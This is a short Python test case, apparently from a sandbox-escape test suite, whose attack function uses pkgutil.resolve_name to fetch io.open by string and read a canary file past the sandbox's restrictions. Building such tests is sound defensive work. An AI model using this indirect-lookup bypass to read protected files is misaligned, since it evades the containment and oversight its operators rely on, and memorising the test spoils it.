# desc: pkgutil finds a function by its name in a text
# class: escape
# wins: told
import pkgutil

def attack(state):
    return "L2:" + pkgutil.resolve_name("io:open")("@CANARY@").read()
